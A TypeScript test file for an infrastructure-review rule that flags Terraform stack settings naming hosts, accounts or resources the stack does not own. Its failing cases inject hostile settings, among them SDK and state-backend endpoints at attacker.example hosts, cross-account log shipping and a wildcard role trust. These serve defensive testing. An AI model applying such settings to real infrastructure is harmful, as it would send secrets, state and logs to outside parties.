import { review } from '../review';
import { addSynthResource, fixtureSynth, synthModel, synthResource, type SynthJson } from '../testing/fixtures';
import { closedWorldRule, referencesInText, withoutExpressions } from './closed-world';

const verdict = (synth: SynthJson) => {
  const result = review(synthModel(synth), { rules: [closedWorldRule] }).results[0];
  return { status: result.status, failing: result.findings.filter((f) => !f.passed).map((f) => f.message) };
};
const OTHER = '999999999999';

describe('references-closed-world', () => {
  it('passes our own stack: everything it names is a reference, its own account, a name it creates, or allow-listed', () => {
    expect(verdict(fixtureSynth())).toEqual({ status: 'pass', failing: [] });
  });

  // Hostile changes of each class the invariant covers, none of which any pattern rule was written for.
  it.each<[string, (synth: SynthJson) => void, RegExp]>([
    [
      'a way out of the isolated VPC that is not a gateway: an interface endpoint to another account’s service',
      (s) =>
        addSynthResource(s, 'aws_vpc_endpoint', 'partner', {
          vpc_id: '${aws_vpc.network_vpc_4E8F0223.id}',
          vpc_endpoint_type: 'Interface',
          service_name: 'com.amazonaws.vpce.ap-northeast-2.vpce-svc-0a1b2c3d4e5f60718',
        }),
      /endpoint service com\.amazonaws\.vpce\.ap-northeast-2\.vpce-svc-0a1b2c3d4e5f60718 \(at service_name\)/,
    ],
    [
      'code from another account: a container image in another account’s registry',
      (s) =>
        (synthResource(s, 'aws_lambda_function', 'api-function/function').image_uri =
          `${OTHER}.dkr.ecr.ap-northeast-2.amazonaws.com/api:latest`),
      /account 999999999999 \(at image_uri\)/,
    ],
    [
      'SDK calls sent elsewhere: a provider endpoint override',
      (s) => (s.provider.aws[0].endpoints = [{ secretsmanager: 'https://secrets.attacker.example' }]),
      /provider\.aws names host secrets\.attacker\.example/,
    ],
    [
      'a trust of an organization nobody reviewed',
      (s) =>
        (synthResource(s, 'aws_iam_role', 'api-function/role').assume_role_policy = JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { AWS: '*' },
              Action: 'sts:AssumeRole',
              Condition: { StringEquals: { 'aws:PrincipalOrgID': 'o-a1b2c3d4e5' } },
            },
          ],
        })),
      /organization o-a1b2c3d4e5/,
    ],
    [
      'a network placed by a literal id (a subnet of something else)',
      (s) =>
        (synthResource(s, 'aws_lambda_function', 'api-function/function').vpc_config.subnet_ids = [
          'subnet-0fedcba987654321f',
        ]),
      /resource id subnet-0fedcba987654321f/,
    ],
    [
      'alerts sent to a host nobody reviewed',
      (s) =>
        addSynthResource(s, 'aws_sns_topic_subscription', 'relay', {
          topic_arn: '${aws_sns_topic.monitoring_topic_631C3BE1.arn}',
          protocol: 'https',
          endpoint: 'https://hooks.collector.example/alerts',
        }),
      /host hooks\.collector\.example/,
    ],
    [
      'logs shipped to another account',
      (s) =>
        addSynthResource(s, 'aws_cloudwatch_log_subscription_filter', 'ship', {
          log_group_name: '/aws/lambda/rdsp-dev-api',
          filter_pattern: '',
          destination_arn: `arn:aws:logs:ap-northeast-2:${OTHER}:destination:collector`,
        }),
      /ARN arn:aws:logs:ap-northeast-2:999999999999:destination:collector \(at destination_arn\)/,
    ],
    [
      'an ARN of our own account naming something the stack does not create',
      (s) =>
        (synthResource(s, 'aws_lambda_function', 'api-function/function').environment.variables.DB_SECRET_ARN =
          'arn:aws:secretsmanager:ap-northeast-2:123456789012:secret:someone-elses-secret-AbCdEf'),
      /ARN arn:aws:secretsmanager:ap-northeast-2:123456789012:secret:someone-elses-secret-AbCdEf/,
    ],
    [
      'state written to an address nobody reviewed',
      (s) =>
        (s.terraform.backend = {
          s3: { bucket: 'b', key: 'k', region: 'ap-northeast-2', endpoint: 'https://s3.attacker.example' },
        }),
      /backend names host s3\.attacker\.example/,
    ],
  ])('fails %s', (_name, change, message) => {
    const synth = fixtureSynth();
    change(synth);
    const { status, failing } = verdict(synth);
    expect(status).toBe('fail');
    expect(failing.join('\n')).toMatch(message);
  });

  it.each<[string, (synth: SynthJson) => void]>([
    [
      'an alarm on a new metric, to the stack’s topic by reference',
      (s) =>
        addSynthResource(s, 'aws_cloudwatch_metric_alarm', 'extra', {
          alarm_name: 'rdsp-dev-extra',
          namespace: 'AWS/Lambda',
          metric_name: 'Errors',
          alarm_actions: ['${aws_sns_topic.monitoring_topic_631C3BE1.arn}'],
        }),
    ],
    [
      'a policy naming, by a literal ARN of our account, a log group the stack creates',
      (s) => {
        addSynthResource(s, 'aws_cloudwatch_log_group', 'extra', { name: '/aws/lambda/rdsp-dev-extra' });

        addSynthResource(s, 'aws_iam_role_policy', 'extra', {
          role: '${aws_iam_role.api-function_role_27FF8EDC.name}',
          policy: JSON.stringify({
            Version: '2012-10-17',
            Statement: [
              {
                Effect: 'Allow',
                Action: 'logs:PutLogEvents',
                Resource: 'arn:aws:logs:ap-northeast-2:123456789012:log-group:/aws/lambda/rdsp-dev-extra:*',
              },
            ],
          }),
        });
      },
    ],
    [
      'an AWS service endpoint and an AWS-managed policy ARN',
      (s) =>
        addSynthResource(s, 'aws_vpc_endpoint', 'logs', {
          service_name: 'com.amazonaws.ap-northeast-2.logs',
          vpc_endpoint_type: 'Interface',
          policy: JSON.stringify({ Statement: [{ Resource: 'arn:aws:iam::aws:policy/ReadOnlyAccess' }] }),
        }),
    ],
  ])('passes %s', (_name, change) => {
    const synth = fixtureSynth();
    change(synth);
    expect(verdict(synth)).toEqual({ status: 'pass', failing: [] });
  });

  it('passes the state backend as a deploy writes it: the state bucket and key of the stack’s own account', () => {
    const synth = fixtureSynth();
    synth.terraform.backend = {
      s3: {
        bucket: 'rdsp-tfstate-123456789012-ap-northeast-2',
        key: 'dev/terraform.tfstate',
        region: 'ap-northeast-2',
        encrypt: true,
        kms_key_id: 'arn:aws:kms:ap-northeast-2:123456789012:alias/rdsp-tfstate',
        use_lockfile: true,
      },
    };
    expect(verdict(synth)).toEqual({ status: 'pass', failing: [] });
    synth.terraform.backend.s3.kms_key_id = 'arn:aws:kms:ap-northeast-2:999999999999:alias/rdsp-tfstate';
    expect(verdict(synth).failing.join()).toMatch(/backend names ARN arn:aws:kms:ap-northeast-2:999999999999/);
  });

  it('reads references, not their text: what `${…}` refers to belongs to the stack', () => {
    expect(withoutExpressions('arn:aws:ec2:r:1:subnet/${aws_subnet.a.id}')).toBe(
      'arn:aws:ec2:r:1:subnet/\u27e8ref\u27e9',
    );
    expect(withoutExpressions('${jsonencode({"a" = "b"})}x')).toBe('\u27e8ref\u27e9x');
    expect(referencesInText('db.t4g.micro', 'instance_class')).toEqual([]);
    expect(referencesInText('db.internal.example.com', 'environment.variables.DB_HOST')).toEqual([
      { kind: 'host', value: 'db.internal.example.com' },
    ]);
  });
});
